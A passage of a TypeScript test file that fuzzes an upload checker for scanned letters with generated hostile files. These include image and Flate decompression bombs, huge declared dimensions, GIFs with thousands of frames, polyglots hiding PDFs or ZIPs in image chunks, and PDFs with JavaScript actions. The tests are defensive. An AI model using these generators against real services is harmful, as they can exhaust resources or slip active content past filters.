import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import { constants, crc32, createDeflate, deflateRawSync, deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { PDFDocument } from 'pdf-lib';
import sharp, { type Sharp } from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LetterRejection } from '../../lib/app/model.js';
import { LETTER_MAX_BYTES } from '../../lib/domain/letter.js';
import { LETTER_TYPES, type LetterType } from '../../lib/domain/revocation.js';
import * as letters from '../fixtures/letters.js';
import type { ManifestEntry, RunnerEvent } from './support/inspect-runner.js';

/**
 * Hostile files through the letter processor's content check (ContentLetterInspector, with real
 * sharp and pdf-lib in its worker). The corpus is made here: fast-check mutations of valid JPEG,
 * GIF, PNG and PDF letters (truncations, bit flips, insertions, deletions, foreign headers,
 * splices) from a fixed, printed seed, and hand-written attacks: huge declared dimensions, GIFs
 * of many frames, deep and cyclic PDF objects, fan-out page trees, Flate bombs (also in object
 * streams), PDFs with JavaScript, launch actions, embedded files or encryption, polyglots, and
 * PDFs written to slip past the byte-level pre-scan. It proves that every file ends accepted or
 * rejected with a code, that none crashes the process, none takes 5 s or more, and that the
 * processing process (a child of this one, so a crash is seen as its death) peaks under 512 MB.
 *
 * Decision on active content: a PDF that can act when opened in the reviewer's viewer —
 * JavaScript (/JS, /JavaScript, also in object streams or #-escaped), /Launch, embedded files,
 * /GoToE, XFA, /RichMedia, /SubmitForm, /ImportData, automatic actions (/AA) — is rejected as
 * LETTER_UNREADABLE, and so is an encrypted PDF (nothing in it can be checked). A letter is a
 * scan or a printed page and never needs any of these. Plain /URI links stay accepted: viewers
 * ask before following one, and letters made from office documents carry them. Polyglots are
 * rejected too: another file appended, a ZIP archive readable from the end, or a PDF in an image
 * (a GIF whose header also parses as JavaScript stays accepted: it is stored as image/gif).
 * The processor's own bounds make the limits hold, not luck: a 3 s budget for the PDF worker and
 * for image decoding, a 32 MiB cap on inflated PDF streams, pixel, frame and page budgets.
 *
 * Set HOSTILE_SEED to replay another corpus, HOSTILE_VERBOSE=1 to print every file's verdict,
 * HOSTILE_KEEP=1 to keep the corpus directory (replay one with support/inspect-runner.ts).
 */

const SEED = Number(process.env.HOSTILE_SEED ?? 20_240_611);
const FUZZ_RUNS = 200;
const TIME_LIMIT_MS = 5_000;
const RSS_LIMIT_MB = 512;
/** A file with no verdict this long after it started has hung the child. */
const HANG_MS = 20_000;

const RUNNER = fileURLToPath(new URL('./support/inspect-runner.ts', import.meta.url));
const CODES: readonly LetterRejection['code'][] = ['LETTER_TOO_SMALL', 'LETTER_TOO_LARGE', 'LETTER_TYPE_NOT_ALLOWED', 'LETTER_UNREADABLE'];
const APPLICATION = LETTER_TYPES.application; // jpg, gif, pdf
const CONFIRMATION = LETTER_TYPES.confirmation; // jpg, png, pdf
const EVERY: readonly LetterType[] = ['jpg', 'png', 'gif', 'pdf'];

type Code = LetterRejection['code'];
type Expect = { outcome: 'accepted' } | { outcome: 'rejected'; code: Code; detail?: RegExp };

interface CorpusFile {
  name: string;
  category: string;
  bytes: Uint8Array;
  allowed: readonly LetterType[];
  expect?: Expect;
}

const accepted: Expect = { outcome: 'accepted' };
const rejected = (code: Code, detail?: RegExp): Expect => ({ outcome: 'rejected', code, ...(detail ? { detail } : {}) });
const unreadable = (detail?: RegExp): Expect => rejected('LETTER_UNREADABLE', detail);

// ---- bytes --------------------------------------------------------------------------------

const latin1 = (text: string): Uint8Array => Uint8Array.from(Buffer.from(text, 'latin1'));
const u16be = (n: number) => [(n >> 8) & 0xff, n & 0xff];
const u16le = (n: number) => [n & 0xff, (n >> 8) & 0xff];
const u32le = (n: number) => [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff];

function bytesOf(buffer: Buffer): Uint8Array {
  return new Uint8Array(buffer.buffer, buffer.byteOffset, buffer.byteLength);
}

/** Deflates `prefix` then `zeros` zero bytes, a megabyte at a time (no 300 MB buffer). */
async function deflateWithZeros(prefix: Uint8Array, zeros: number): Promise<Uint8Array> {
  const deflate = createDeflate({ level: constants.Z_BEST_COMPRESSION });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  deflate.write(prefix);
  const block = Buffer.alloc(1 << 20);
  for (let left = zeros; left > 0; left -= block.length) {
    if (!deflate.write(left >= block.length ? block : block.subarray(0, left))) await once(deflate, 'drain');
  }
  deflate.end();
  await once(deflate, 'end');
  return bytesOf(Buffer.concat(chunks));
}

function adler32(data: Uint8Array): number {
  let a = 1;
  let b = 0;
  for (const byte of data) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  return ((b << 16) | a) >>> 0;
}

/**
 * A zlib stream whose first bytes are a stored (uncompressed) block holding `visible`, followed
 * by `hidden` compressed: the visible text sits in the file as is, the hidden part does not.
 */
function zlibWithStoredHead(visible: string, hidden: string): Uint8Array {
  const head = latin1(visible);
  const tail = latin1(hidden);
  const stored = [0x00, ...u16le(head.length), ...u16le(~head.length & 0xffff)];
  const whole = letters.concat(head, tail);
  const check = adler32(whole);
  return letters.concat(Uint8Array.of(0x78, 0x01, ...stored), head, bytesOf(deflateRawSync(tail)), Uint8Array.of(check >>> 24, (check >>> 16) & 0xff, (check >>> 8) & 0xff, check & 0xff));
}

/** A ZIP archive of stored entries. */
function zip(entries: { name: string; data: Uint8Array }[]): Uint8Array {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const { name, data } of entries) {
    const nameBytes = latin1(name);
    const crc = crc32(data);
    const common = [...u16le(20), ...u16le(0), ...u16le(0), ...u16le(0), ...u16le(0), ...u32le(crc), ...u32le(data.length), ...u32le(data.length), ...u16le(nameBytes.length), ...u16le(0)];
    const local = letters.concat(Uint8Array.of(0x50, 0x4b, 0x03, 0x04, ...common), nameBytes, data);
    centrals.push(letters.concat(Uint8Array.of(0x50, 0x4b, 0x01, 0x02, ...u16le(20), ...common, ...u16le(0), ...u16le(0), ...u16le(0), ...u32le(0), ...u32le(offset)), nameBytes));
    locals.push(local);
    offset += local.length;
  }
  const central = letters.concat(...centrals);
  const end = Uint8Array.of(0x50, 0x4b, 0x05, 0x06, ...u16le(0), ...u16le(0), ...u16le(entries.length), ...u16le(entries.length), ...u32le(central.length), ...u32le(offset), ...u16le(0));
  return letters.concat(...locals, central, end);
}

// ---- images -------------------------------------------------------------------------------

const { pngChunk } = letters;

const PNG_SIGNATURE = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a);

/** A PNG from an IHDR and chunks; a tEXt chunk pads it past 1 KiB. */
function png(width: number, height: number, options: { bitDepth?: number; colorType?: number; idat: Uint8Array; before?: Uint8Array[] }): Uint8Array {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width >>> 0, 0);
  ihdr.writeUInt32BE(height >>> 0, 4);
  ihdr.writeUInt8(options.bitDepth ?? 8, 8);
  ihdr.writeUInt8(options.colorType ?? 0, 9);
  const text = pngChunk('tEXt', latin1(`Comment\0${'padding '.repeat(130)}`));
  return letters.concat(PNG_SIGNATURE, pngChunk('IHDR', ihdr), ...(options.before ?? []), text, pngChunk('IDAT', options.idat), pngChunk('IEND', new Uint8Array(0)));
}

/** Inserts chunks right after a PNG's IHDR (which ends at byte 33). */
function withPngChunks(base: Uint8Array, ...chunks: Uint8Array[]): Uint8Array {
  return letters.concat(base.subarray(0, 33), ...chunks, base.subarray(33));
}

/** LZW data of one pixel (minimum code size 2: clear, 0, end). */
const ONE_PIXEL_LZW = [0x02, 0x02, 0x44, 0x01, 0x00];

/** A GIF with a two-colour table, a padding comment and the given frames (each one pixel of data). */
function gif(width: number, height: number, frames: { width: number; height: number; left?: number; top?: number }[], comment = 'padding '.repeat(130)): Uint8Array {
  const parts: number[] = [...latin1('GIF89a'), ...u16le(width), ...u16le(height), 0x80, 0, 0, 0, 0, 0, 255, 255, 255];
  const text = latin1(comment);
  parts.push(0x21, 0xfe);
  for (let i = 0; i < text.length; i += 255) {
    const block = text.subarray(i, i + 255);
    parts.push(block.length, ...block);
  }
  parts.push(0x00);
  for (const frame of frames) {
    parts.push(0x21, 0xf9, 0x04, 0x00, 0x0a, 0x00, 0x00, 0x00); // graphic control: 100 ms
    parts.push(0x2c, ...u16le(frame.left ?? 0), ...u16le(frame.top ?? 0), ...u16le(frame.width), ...u16le(frame.height), 0x00, ...ONE_PIXEL_LZW);
  }
  parts.push(0x3b);
  return Uint8Array.from(parts);
}

/** Offsets of a JPEG's segments (marker position, total length), up to the first SOS. */
function jpegSegments(b: Uint8Array): { marker: number; at: number; length: number }[] {
  const segments: { marker: number; at: number; length: number }[] = [];
  let i = 2;
  while (i + 4 <= b.length && b[i] === 0xff) {
    const marker = b[i + 1] as number;
    const length = 2 + (((b[i + 2] as number) << 8) | (b[i + 3] as number));
    segments.push({ marker, at: i, length });
    if (marker === 0xda) break;
    i += length;
  }
  return segments;
}

/** The same JPEG with its frame header declaring other dimensions. */
function jpegDeclaring(base: Uint8Array, width: number, height: number): Uint8Array {
  const out = new Uint8Array(base);
  const sof = jpegSegments(out).find((s) => s.marker >= 0xc0 && s.marker <= 0xc2);
  if (!sof) throw new Error('no SOF');
  out.set([...u16be(height), ...u16be(width)], sof.at + 5);
  return out;
}

/** A progressive JPEG whose smallest scan is repeated until the file is about `size` bytes. */
function jpegWithRepeatedScans(base: Uint8Array, size: number): Uint8Array {
  const scans: { at: number; end: number }[] = [];
  let i = jpegSegments(base).at(-1)?.at ?? 2;
  while (i < base.length - 2) {
    if (base[i] !== 0xff) throw new Error('lost in the JPEG');
    const marker = base[i + 1] as number;
    if (marker === 0xd9) break;
    const length = 2 + (((base[i + 2] as number) << 8) | (base[i + 3] as number));
    let end = i + length;
    if (marker === 0xda) {
      while (end < base.length - 1 && !(base[end] === 0xff && base[end + 1] !== 0x00 && !((base[end + 1] as number) >= 0xd0 && (base[end + 1] as number) <= 0xd7))) end++;
      scans.push({ at: i, end });
    }
    i = end;
  }
  const smallest = scans.reduce((a, b) => (b.end - b.at < a.end - a.at ? b : a));
  const scan = base.subarray(smallest.at, smallest.end);
  const copies = Math.max(1, Math.floor((size - base.length) / scan.length));
  return letters.concat(base.subarray(0, base.length - 2), ...Array<Uint8Array>(copies).fill(scan), base.subarray(base.length - 2));
}

/** SOI, a COM segment holding `payload`, then the rest of the JPEG. */
function jpegWithComment(base: Uint8Array, payload: Uint8Array): Uint8Array {
  return letters.concat(base.subarray(0, 2), Uint8Array.of(0xff, 0xfe, ...u16be(payload.length + 2)), payload, base.subarray(2));
}

// ---- PDFs ---------------------------------------------------------------------------------

const CONTENT = letters.streamObject('', latin1(Array.from({ length: 24 }, (_, i) => `BT /F1 10 Tf 40 ${800 - i * 20} Td (Sealed letter line ${i + 1}) Tj ET`).join('\n')));
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** Catalog 1, pages 2, page 3, content 4, font 5, then `extra` from 6: like simpleHandPdf, with a page of one's own. */
function onePagePdf(options: { catalog?: string; page?: string; extra?: (string | (string | Uint8Array)[])[]; trailer?: string } = {}): Uint8Array {
  return letters.handPdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${options.page ?? ''} >>`,
      CONTENT,
      FONT,
      ...(options.extra ?? []),
    ],
    options.trailer,
  );
}

/** A stream object written by hand: `between` goes between the dictionary and the data. */
function rawStream(dict: string, between: string, data: Uint8Array): (string | Uint8Array)[] {
  return [`<< ${dict} >>${between}`, data, '\nendstream'];
}

/** An object stream (/N 1) holding object `number`, `body`; `gap` sits between the header and the object. */
function objectStreamText(number: number, body: string, gap = ''): { text: string; first: number } {
  const header = `${number} 0 ${gap}`;
  return { text: `${header}${body}`, first: header.length };
}

/** Appends an incremental update redefining objects (bodies keyed by number) to a hand-written PDF. */
function incrementalUpdate(base: Uint8Array, objects: Record<number, string>, size: number): Uint8Array {
  const prev = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(Buffer.from(base).toString('latin1'));
  if (!prev) throw new Error('no startxref');
  let offset = base.length;
  const parts: string[] = [];
  const entries: string[] = [];
  for (const [number, body] of Object.entries(objects)) {
    const text = `${number} 0 obj\n${body}\nendobj\n`;
    entries.push(`${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`);
    parts.push(text);
    offset += text.length;
  }
  parts.push(`xref\n${entries.join('')}trailer\n<< /Size ${size} /Root 1 0 R /Prev ${prev[1]} >>\nstartxref\n${offset}\n%%EOF\n`);
  return letters.concat(base, latin1(parts.join('')));
}

const JS_ACTION = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

// ---- the corpus ---------------------------------------------------------------------------

interface Bases {
  jpeg: Uint8Array;
  progressiveJpeg: Uint8Array;
  png: Uint8Array;
  gif: Uint8Array;
  animatedGif: Uint8Array;
  pdf: Uint8Array;
  pdfNoObjectStreams: Uint8Array;
  handPdf: Uint8Array;
}

/**
 * Noise from a seeded generator (mulberry32): the fixtures' images use sharp's noise, which is
 * random, and the same seed must mutate the same bytes.
 */
function seededNoise(width: number, height: number, channels: 1 | 3, seed: number): Sharp {
  const pixels = Buffer.alloc(width * height * channels);
  let state = seed >>> 0;
  for (let i = 0; i < pixels.length; i++) {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    pixels[i] = (t ^ (t >>> 14)) & 0xff;
  }
  return sharp(pixels, { raw: { width, height, channels } });
}

/** A GIF of `frames` noise frames (stacked, `height` apart), like the fixtures' gifLetter but seeded. */
async function noiseGif(frames: number, width: number, height: number): Promise<Uint8Array> {
  const raw = await seededNoise(width, height * frames, 3, SEED + frames).raw().toBuffer();
  return bytesOf(await sharp(raw, { raw: { width, height: height * frames, channels: 3, pageHeight: height } }).gif({ delay: 100, loop: 0 }).toBuffer());
}

async function makeBases(): Promise<Bases> {
  const [jpeg, progressiveJpeg, pngBase, gifBase, animatedGif, pdf, pdfNoObjectStreams] = await Promise.all([
    seededNoise(300, 200, 3, SEED).jpeg({ quality: 80 }).toBuffer().then(bytesOf),
    seededNoise(300, 200, 3, SEED).jpeg({ quality: 80, progressive: true }).toBuffer().then(bytesOf),
    seededNoise(120, 80, 3, SEED).png().toBuffer().then(bytesOf),
    noiseGif(1, 64, 48),
    noiseGif(3, 64, 48),
    letters.pdfLetter(),
    letters.pdfLetter({ useObjectStreams: false }),
  ]);
  return { jpeg, progressiveJpeg, png: pngBase, gif: gifBase, animatedGif, pdf, pdfNoObjectStreams, handPdf: letters.simpleHandPdf() };
}

const MAGICS: Record<string, Uint8Array> = {
  png: PNG_SIGNATURE,
  gif89a: latin1('GIF89a'),
  gif87a: latin1('GIF87a'),
  jpeg: Uint8Array.of(0xff, 0xd8, 0xff, 0xe0),
  pdf: latin1('%PDF-1.7\n'),
  zip: Uint8Array.of(0x50, 0x4b, 0x03, 0x04),
  tiff: Uint8Array.of(0x49, 0x49, 0x2a, 0x00),
  webp: latin1('RIFF\x10\x00\x00\x00WEBPVP8 '),
  bmp: latin1('BM'),
  xml: latin1('<?xml version="1.0"?>'),
  nul: new Uint8Array(8),
};

/** Positions are drawn as millionths of the file's length, so one plan fits every base. */
const position = fc.integer({ min: 0, max: 999_999 });
const mutation = fc.oneof(
  fc.record({ op: fc.constant('truncate' as const), at: position }),
  fc.record({ op: fc.constant('flip' as const), flips: fc.array(fc.tuple(position, fc.integer({ min: 0, max: 7 })), { minLength: 1, maxLength: 24 }) }),
  fc.record({ op: fc.constant('flip-head' as const), flips: fc.array(fc.tuple(fc.nat({ max: 255 }), fc.integer({ min: 0, max: 7 })), { minLength: 1, maxLength: 4 }) }),
  fc.record({ op: fc.constant('insert' as const), at: position, bytes: fc.uint8Array({ minLength: 1, maxLength: 64 }) }),
  fc.record({ op: fc.constant('delete' as const), at: position, length: fc.integer({ min: 1, max: 512 }) }),
  fc.record({ op: fc.constant('overwrite' as const), at: position, bytes: fc.uint8Array({ minLength: 1, maxLength: 32 }) }),
  fc.record({ op: fc.constant('duplicate' as const), at: position, length: fc.integer({ min: 1, max: 4096 }), times: fc.integer({ min: 2, max: 16 }) }),
  fc.record({ op: fc.constant('header' as const), magic: fc.constantFrom(...Object.keys(MAGICS)) }),
  fc.record({ op: fc.constant('append' as const), other: fc.constantFrom<keyof Bases>('jpeg', 'png', 'gif', 'pdf', 'handPdf') }),
  fc.record({ op: fc.constant('splice' as const), other: fc.constantFrom<keyof Bases>('jpeg', 'png', 'gif', 'pdf', 'handPdf'), at: position }),
);
type Mutation = typeof mutation extends fc.Arbitrary<infer T> ? T : never;

const plan = fc.record({
  base: fc.constantFrom<keyof Bases>('jpeg', 'progressiveJpeg', 'png', 'gif', 'animatedGif', 'pdf', 'pdfNoObjectStreams', 'handPdf'),
  kind: fc.constantFrom('application' as const, 'confirmation' as const),
  mutations: fc.array(mutation, { minLength: 1, maxLength: 3 }),
});

function mutate(bytes: Uint8Array, m: Mutation, bases: Bases): Uint8Array {
  const at = (p: number, length = bytes.length) => Math.floor((p / 1_000_000) * length);
  switch (m.op) {
    case 'truncate':
      return letters.truncate(bytes, at(m.at));
    case 'flip':
    case 'flip-head': {
      const out = new Uint8Array(bytes);
      for (const [p, bit] of m.flips) {
        const k = m.op === 'flip' ? at(p) : p % Math.max(1, out.length);
        if (k < out.length) out[k] = (out[k] as number) ^ (1 << bit);
      }
      return out;
    }
    case 'insert':
      return letters.concat(bytes.subarray(0, at(m.at)), m.bytes, bytes.subarray(at(m.at)));
    case 'delete':
      return letters.concat(bytes.subarray(0, at(m.at)), bytes.subarray(at(m.at) + m.length));
    case 'overwrite': {
      const out = new Uint8Array(bytes);
      out.set(m.bytes.subarray(0, Math.max(0, out.length - at(m.at))), at(m.at));
      return out;
    }
    case 'duplicate': {
      const region = bytes.subarray(at(m.at), at(m.at) + m.length);
      return letters.concat(bytes.subarray(0, at(m.at)), ...Array<Uint8Array>(m.times).fill(region), bytes.subarray(at(m.at) + m.length));
    }
    case 'header': {
      const magic = MAGICS[m.magic] as Uint8Array;
      return letters.concat(magic, bytes.subarray(magic.length));
    }
    case 'append':
      return letters.concat(bytes, bases[m.other]);
    case 'splice': {
      const other = bases[m.other];
      return letters.concat(bytes.subarray(0, at(m.at)), other.subarray(at(m.at, other.length)));
    }
  }
}

function describeMutation(m: Mutation): string {
  return m.op === 'header' ? `header-${m.magic}` : m.op === 'append' || m.op === 'splice' ? `${m.op}-${m.other}` : m.op;
}

function fuzzed(bases: Bases): CorpusFile[] {
  return fc.sample(plan, { seed: SEED, numRuns: FUZZ_RUNS }).map((p, i) => {
    const bytes = p.mutations.reduce((b, m) => mutate(b, m, bases), bases[p.base]);
    return { name: `fuzz-${String(i).padStart(3, '0')}-${p.base}-${p.mutations.map(describeMutation).join('+')}`, category: 'fuzz', bytes, allowed: LETTER_TYPES[p.kind] };
  });
}

async function handCrafted(bases: Bases): Promise<CorpusFile[]> {
  const files: CorpusFile[] = [];
  const add = (category: string, name: string, bytes: Uint8Array, allowed: readonly LetterType[], expectation?: Expect) =>
    files.push({ name: `${category}--${name}`, category, bytes, allowed, ...(expectation ? { expect: expectation } : {}) });

  // The harness must be able to say yes: the valid bases are accepted.
  add('valid', 'jpeg', bases.jpeg, APPLICATION, accepted);
  add('valid', 'progressive-jpeg', bases.progressiveJpeg, CONFIRMATION, accepted);
  add('valid', 'png', bases.png, CONFIRMATION, accepted);
  add('valid', 'gif', bases.gif, APPLICATION, accepted);
  add('valid', 'animated-gif', bases.animatedGif, APPLICATION, accepted);
  add('valid', 'pdf-object-streams', bases.pdf, CONFIRMATION, accepted);
  add('valid', 'pdf-plain', bases.pdfNoObjectStreams, APPLICATION, accepted);
  add('valid', 'pdf-hand-written', bases.handPdf, APPLICATION, accepted);
  add('valid', 'pdf-20-pages', await letters.pdfWithPages(20), CONFIRMATION, accepted);
  add('valid', 'pdf-with-uri-link', onePagePdf({ page: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://example.com/) >> >>'] }), CONFIRMATION, accepted);

  // Size limits come first, whatever the content.
  add('size', 'one-byte-short', letters.truncate(bases.jpeg, 1023), EVERY, rejected('LETTER_TOO_SMALL'));
  add('size', 'one-byte-over', letters.concat(PNG_SIGNATURE, new Uint8Array(LETTER_MAX_BYTES + 1 - 8)), EVERY, rejected('LETTER_TOO_LARGE'));
  add('size', 'three-megabytes', letters.concat(latin1('%PDF-1.7\n'), new Uint8Array(3_000_000).fill(0x20), latin1('%%EOF\n')), EVERY, rejected('LETTER_TOO_LARGE'));

  // A real format, but not one this kind of letter takes, or not a letter format at all.
  add('wrong-type', 'png-for-application', bases.png, APPLICATION, rejected('LETTER_TYPE_NOT_ALLOWED', /PNG is not allowed/));
  add('wrong-type', 'gif-for-confirmation', bases.gif, CONFIRMATION, rejected('LETTER_TYPE_NOT_ALLOWED', /GIF is not allowed/));
  add('wrong-type', 'animated-gif-for-confirmation', bases.animatedGif, CONFIRMATION, rejected('LETTER_TYPE_NOT_ALLOWED'));
  add('wrong-type', 'tiff', await letters.TIFF(), EVERY, rejected('LETTER_TYPE_NOT_ALLOWED'));
  add('wrong-type', 'webp', bytesOf(await seededNoise(64, 64, 3, SEED).webp().toBuffer()), EVERY, rejected('LETTER_TYPE_NOT_ALLOWED'));
  add('wrong-type', 'svg-with-declaration', letters.svgWithDeclaration(), EVERY, rejected('LETTER_TYPE_NOT_ALLOWED'));
  add('wrong-type', 'zip-holding-a-pdf', zip([{ name: 'letter.pdf', data: bases.handPdf }]), EVERY, rejected('LETTER_TYPE_NOT_ALLOWED'));
  add('wrong-type', 'bare-svg', letters.bareSvg(), EVERY, unreadable());
  add('wrong-type', 'html', letters.htmlPage(), EVERY, unreadable());
  add('wrong-type', 'random-bytes', Uint8Array.from({ length: 4096 }, (_, i) => (i * 2_654_435_761) >>> 24), EVERY, unreadable());
  add('wrong-type', 'zeros', new Uint8Array(4096), EVERY, unreadable());

  // One format's magic bytes on another format's body.
  add('wrong-header', 'png-signature-on-jpeg', letters.concat(PNG_SIGNATURE, bases.jpeg.subarray(8)), EVERY, unreadable());
  add('wrong-header', 'jpeg-soi-on-png', letters.concat(Uint8Array.of(0xff, 0xd8, 0xff, 0xe0), bases.png.subarray(4)), EVERY, unreadable());
  add('wrong-header', 'pdf-header-on-gif', letters.concat(latin1('%PDF-1.7\n'), bases.gif), EVERY, unreadable());
  add('wrong-header', 'gif-header-on-pdf', letters.gifPrefixedPdf(bases.pdf), EVERY, unreadable());
  add('wrong-header', 'png-signature-on-pdf', letters.concat(PNG_SIGNATURE, bases.handPdf), EVERY, unreadable());
  add('wrong-header', 'gif87a-on-png', letters.concat(latin1('GIF87a'), bases.png.subarray(6)), EVERY, unreadable());

  // Headers declaring far more pixels than the file holds.
  const tinyIdat = bytesOf(deflateSync(new Uint8Array(64)));
  add('huge-dimensions', 'png-65535x65535', png(65_535, 65_535, { idat: tinyIdat }), CONFIRMATION, unreadable(/too many pixels/));
  add('huge-dimensions', 'png-30000x30000-bomb', letters.pngBomb(), CONFIRMATION, unreadable(/too many pixels/));
  add('huge-dimensions', 'png-2147483647x1', png(0x7fffffff, 1, { idat: tinyIdat }), CONFIRMATION, unreadable());
  add('huge-dimensions', 'png-1x65535-rgba16', png(1, 65_535, { bitDepth: 16, colorType: 6, idat: tinyIdat }), CONFIRMATION, unreadable());
  add('huge-dimensions', 'gif-screen-65535x65535', gif(65_535, 65_535, [{ width: 1, height: 1 }]), APPLICATION);
  add('huge-dimensions', 'gif-frame-65535x65535', gif(16, 16, [{ width: 65_535, height: 65_535 }]), APPLICATION, unreadable());
  add('huge-dimensions', 'gif-frame-offset-65000', gif(16, 16, [{ width: 10, height: 10, left: 65_000, top: 65_000 }]), APPLICATION);
  add('huge-dimensions', 'jpeg-65535x65535', jpegDeclaring(bases.jpeg, 65_535, 65_535), APPLICATION, unreadable(/65500|too many pixels/));
  add('huge-dimensions', 'jpeg-60000x60000', jpegDeclaring(bases.jpeg, 60_000, 60_000), APPLICATION, unreadable(/too many pixels/));
  add('huge-dimensions', 'jpeg-65535x1', jpegDeclaring(bases.jpeg, 65_535, 1), APPLICATION);
  add('huge-dimensions', 'jpeg-5000x5000-on-small-data', jpegDeclaring(bases.jpeg, 5_000, 5_000), APPLICATION);
  add('huge-dimensions', 'progressive-jpeg-65535x65535', jpegDeclaring(bases.progressiveJpeg, 65_535, 65_535), APPLICATION, unreadable(/65500|too many pixels/));

  // Small files that decode to a lot, within or beyond the pixel budget.
  add('image-bomb', 'png-5000x5000-grey-zeros', png(5_000, 5_000, { idat: await deflateWithZeros(new Uint8Array(0), 5_001 * 5_000) }), CONFIRMATION);
  add('image-bomb', 'png-5000x5000-rgba16-zeros', png(5_000, 5_000, { bitDepth: 16, colorType: 6, idat: await deflateWithZeros(new Uint8Array(0), 40_001 * 5_000) }), CONFIRMATION);
  const iccBomb = await deflateWithZeros(new Uint8Array(0), 100 * 2 ** 20);
  add('image-bomb', 'png-iccp-100mb', withPngChunks(bases.png, pngChunk('iCCP', letters.concat(latin1('icc\0\0'), iccBomb))), CONFIRMATION);
  add('image-bomb', 'png-ztxt-100mb', withPngChunks(bases.png, pngChunk('zTXt', letters.concat(latin1('Comment\0\0'), iccBomb))), CONFIRMATION);
  const bigGif = bytesOf(await sharp(Buffer.alloc(5_000 * 5_000), { raw: { width: 5_000, height: 5_000, channels: 1 } }).gif().toBuffer());
  add('image-bomb', 'gif-5000x5000-flat', bigGif, APPLICATION, accepted);
  add('image-bomb', 'png-5000x5000-rgba8-zeros', png(5_000, 5_000, { colorType: 6, idat: await deflateWithZeros(new Uint8Array(0), 20_001 * 5_000) }), CONFIRMATION, accepted);
  // A progressive decode keeps every coefficient of the image: 25 MP of 4:4:4 CMYK is 200 MB.
  const flat = sharp({ create: { width: 5_000, height: 5_000, channels: 3, background: '#406080' } });
  const progressive = { progressive: true, quality: 95, chromaSubsampling: '4:4:4' } as const;
  add('image-bomb', 'progressive-jpeg-5000x5000-444', bytesOf(await flat.clone().jpeg(progressive).toBuffer()), CONFIRMATION, unreadable(/progressive JPEG too large/));
  add('image-bomb', 'progressive-cmyk-jpeg-5000x5000', bytesOf(await flat.clone().toColourspace('cmyk').jpeg(progressive).toBuffer()), CONFIRMATION, unreadable(/progressive JPEG too large/));
  add('image-bomb', 'progressive-jpeg-5000x5000-420', bytesOf(await flat.clone().jpeg({ progressive: true, quality: 95 }).toBuffer()), CONFIRMATION, accepted);
  add('image-bomb', 'cmyk-jpeg-5000x5000', bytesOf(await flat.clone().toColourspace('cmyk').jpeg({ quality: 95 }).toBuffer()), CONFIRMATION, accepted);
  const flatProgressive = bytesOf(await sharp({ create: { width: 2_000, height: 2_000, channels: 3, background: '#808080' } }).jpeg({ progressive: true, quality: 90 }).toBuffer());
  add('image-bomb', 'progressive-jpeg-thousands-of-scans', jpegWithRepeatedScans(flatProgressive, 1_400_000), CONFIRMATION);

  // Frame counts: the budget is 50.
  add('gif-frames', '50-frames', await noiseGif(50, 16, 16), APPLICATION, accepted);
  add('gif-frames', '51-frames', await noiseGif(51, 16, 16), APPLICATION, unreadable(/51 frames/));
  add('gif-frames', '200-frames', await noiseGif(200, 8, 8), APPLICATION, unreadable(/200 frames/));
  add('gif-frames', '5000-one-pixel-frames', gif(16, 16, Array.from({ length: 5_000 }, () => ({ width: 1, height: 1 }))), APPLICATION, unreadable(/5000 frames/));
  add('gif-frames', '60-frames-of-65535x65535', gif(16, 16, Array.from({ length: 60 }, () => ({ width: 65_535, height: 65_535 }))), APPLICATION, unreadable(/frames/));
  // Each frame a different flat grey, so the writer cannot merge or crop frames: 50 full frames.
  const greys = Buffer.alloc(707 * 707 * 50);
  for (let f = 0; f < 50; f++) greys.fill(f * 5, f * 707 * 707, (f + 1) * 707 * 707);
  const fullFrames = bytesOf(await sharp(greys, { raw: { width: 707, height: 707 * 50, channels: 1, pageHeight: 707 } }).gif({ delay: 100 }).toBuffer());
  add('gif-frames', '50-frames-of-707x707', fullFrames, APPLICATION, accepted);

  // Polyglots: two formats in one file.
  add('polyglot', 'jpeg-then-pdf', letters.concat(bases.jpeg, bases.pdf), EVERY, unreadable(/after the end of the image/));
  add('polyglot', 'png-then-pdf', letters.concat(bases.png, bases.handPdf), EVERY, unreadable(/after the end of the image/));
  add('polyglot', 'gif-then-zip', letters.concat(bases.gif, zip([{ name: 'a.txt', data: latin1('x'.repeat(100)) }])), EVERY, unreadable(/after the end of the image/));
  add('polyglot', 'jpeg-with-pdf-in-a-comment', jpegWithComment(bases.jpeg, onePagePdf({ catalog: `/OpenAction ${JS_ACTION}` })), EVERY, unreadable(/PDF/));
  add('polyglot', 'png-with-pdf-in-a-text-chunk', withPngChunks(bases.png, pngChunk('tEXt', letters.concat(latin1('Comment\0'), bases.handPdf))), EVERY, unreadable(/PDF/));
  add('polyglot', 'jpeg-with-zip-in-a-comment', jpegWithComment(bases.jpeg, zip([{ name: 'run.js', data: latin1('alert(1)'.repeat(20)) }])), EVERY, unreadable(/ZIP/));
  add('polyglot', 'gif-header-as-javascript', gif(0x2a2f, 10, [{ width: 1, height: 1 }], `*/=1;alert(1);/*${'x'.repeat(1100)}`), APPLICATION);
